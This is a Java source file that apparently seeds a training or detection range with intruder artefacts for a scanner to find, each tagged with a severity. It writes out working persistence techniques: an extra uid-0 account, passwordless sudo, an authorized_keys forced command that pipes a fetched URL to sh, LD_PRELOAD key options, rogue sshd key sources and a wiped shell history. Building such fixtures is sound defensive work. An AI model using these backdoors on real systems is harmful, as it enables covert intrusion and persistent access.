package davy.range.plant;

import davy.range.Command;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;

/// What intruders leave in accounts: passwords, keys, sudo, ssh, history.
final class AccountArtefacts {
    private AccountArtefacts() {}

    static void plant(Ground ground) {
        accounts(ground);
        passwords(ground);
        sudo(ground);
        keys(ground);
        sshd(ground);
        histories(ground);
    }

    private static void accounts(Ground ground) {
        String twin = ground.word();
        ground.append("/etc/passwd", twin + ":x:0:0::/root:/bin/bash\n");
        ground.append(
                "/etc/shadow", twin + ":" + hash(ground.dice.hex(20)) + ":19800:0:99999:7:::\n");
        ground.artefact("second account with uid 0", "uid-zero", "critical", twin);

        ground.replaceIn(
                "/etc/passwd", "/var/spool/news:/usr/sbin/nologin", "/var/spool/news:/bin/bash");
        ground.replaceIn("/etc/shadow", "news:*:", "news:" + hash(ground.dice.hex(20)) + ":");
        ground.artefact("system account that can log in", "system-login", "high", "news");

        ground.copy("/usr/bin/bash", "/usr/sbin/nologin");
        ground.artefact(
                "nologin that is a shell",
                "system-login package-integrity",
                "high",
                "/usr/sbin/nologin");
    }

    private static void passwords(Ground ground) {
        String open = ground.account(ground.word(), "", "/bin/bash");
        ground.artefact("account without a password", "empty-password", "high", open);

        String name = ground.word();
        String weak = ground.dice.pick("123456", "password", "qwerty", "admin", "root123");
        ground.account(name, hash(weak), "/bin/bash");
        ground.artefact("password from every list", "weak-password", "high", name);

        String same = ground.word();
        ground.account(same, hash(same), "/bin/bash");
        ground.artefact("password equal to the name", "weak-password", "high", same);
    }

    private static void sudo(Ground ground) {
        String rule =
                ground.write(
                        "/etc/sudoers.d/" + ground.word(),
                        ground.dice.pick("www-data", "daemon", "nobody")
                                + " ALL=(ALL:ALL) NOPASSWD: ALL\n");
        ground.mode(rule, "r--r-----");
        ground.artefact("service account may do everything", "sudoers", "high", rule);

        String forever =
                ground.write(
                        "/etc/sudoers.d/" + ground.word(),
                        "Defaults timestamp_timeout=-1\nDefaults !tty_tickets\n");
        ground.artefact("sudo that never asks again", "sudoers", "medium", forever);
    }

    private static void keys(Ground ground) {
        String known = key(ground, "mdrfckr");
        ground.artefact("key of a known family", "authorized-keys", "high", known);

        String person = ground.person();
        String forced = "/home/" + person + "/.ssh/authorized_keys";
        ground.write(
                forced,
                "command=\"curl -s "
                        + ground.dice.url()
                        + " | sh; $SHELL\" "
                        + publicKey(ground.dice)
                        + " "
                        + person
                        + "\n");
        ground.artefact("key that fetches at each login", "authorized-keys", "high", forced);

        String preload = "/home/" + ground.person() + "/.ssh/authorized_keys";
        ground.write(
                preload,
                "environment=\"LD_PRELOAD=/tmp/."
                        + ground.word()
                        + ".so\" "
                        + publicKey(ground.dice)
                        + " x\n");
        ground.artefact("key that preloads a library", "authorized-keys", "high", preload);

        String fixed = key(ground, ground.word() + "@" + ground.word());
        ground.immutable(fixed);
        ground.artefact("key file that cannot be changed", "immutable-key", "high", fixed);

        String dumped = "/home/" + ground.person() + "/.ssh/authorized_keys";
        ground.raw(
                dumped,
                "REDIS0007\u00fa\tredis-ver\u00053.2.12\u0000\n\n\n"
                        + publicKey(ground.dice)
                        + " root@x\n\n\n\u00ff\u0007");
        ground.artefact("keys that a database wrote", "redis-dump", "critical", dumped);
    }

    private static void sshd(Ground ground) {
        String place = "/etc/ssh/." + ground.word();
        ground.write(place, publicKey(ground.dice) + " " + ground.word() + "\n");
        String moved =
                ground.write(
                        "/etc/ssh/sshd_config.d/" + ground.word() + ".conf",
                        "AuthorizedKeysFile .ssh/authorized_keys " + place + "\n");
        ground.artefact("keys in a second place", "sshd-config authorized-keys", "medium", moved);

        String program = "/usr/share/" + ground.word() + "/keys";
        ground.script(program, "#!/bin/sh\necho " + publicKey(ground.dice) + "\n");
        String command =
                ground.write(
                        "/etc/ssh/sshd_config.d/" + ground.word() + ".conf",
                        "AuthorizedKeysCommand " + program + "\nAuthorizedKeysCommandUser root\n");
        ground.artefact("keys from a strange program", "sshd-config", "high", command);

        String link = ground.link("/tmp/su", "/usr/sbin/sshd");
        ground.artefact("link by which sshd asks no password", "ssh-binary", "high", link);

        String copy =
                ground.copy("/usr/sbin/sshd", "/usr/lib/" + ground.word() + "/" + ground.word());
        ground.artefact(
                "second sshd under another name", "ssh-binary package-integrity", "high", copy);
    }

    private static void histories(Ground ground) {
        String person = ground.person();
        String nowhere = ground.link("/home/" + person + "/.bash_history", "/dev/null");
        ground.artefact("history that goes nowhere", "shell-history", "medium", nowhere);

        String typed = "/home/" + ground.person() + "/.bash_history";
        ground.write(
                typed,
                "w\nuname -a\ncd /tmp\nwget "
                        + ground.dice.url()
                        + " -O ."
                        + ground.word()
                        + "\nwget -qO- "
                        + ground.dice.url()
                        + " | sh\nhistory -c\n");
        ground.artefact("history of an intruder", "shell-history", "high", typed);

        String off = "/home/" + ground.person() + "/.bashrc";
        ground.write(off, "unset HISTFILE\nexport HISTFILE=/dev/null HISTSIZE=0\n");
        ground.artefact(
                "history that is switched off", "shell-history shell-startup", "medium", off);
    }

    private static String key(Ground ground, String comment) {
        String person = ground.person();
        return ground.owner(
                ground.write(
                        "/home/" + person + "/.ssh/authorized_keys",
                        publicKey(ground.dice) + " " + comment + "\n"),
                person);
    }

    /// The form of an Ed25519 key, of 32 drawn bytes: nobody has its private half.
    static String publicKey(Dice dice) {
        byte[] head = {
            0, 0, 0, 11, 's', 's', 'h', '-', 'e', 'd', '2', '5', '5', '1', '9', 0, 0, 0, 32
        };
        byte[] whole = Arrays.copyOf(head, head.length + 32);
        System.arraycopy(dice.bytes(32), 0, whole, head.length, 32);
        return "ssh-ed25519 " + Base64.getEncoder().encodeToString(whole);
    }

    /// A hash as `crypt(3)` writes it, by an independent program.
    static String hash(String password) {
        return Command.run(List.of("openssl", "passwd", "-6", password)).orThrow("openssl").strip();
    }
}
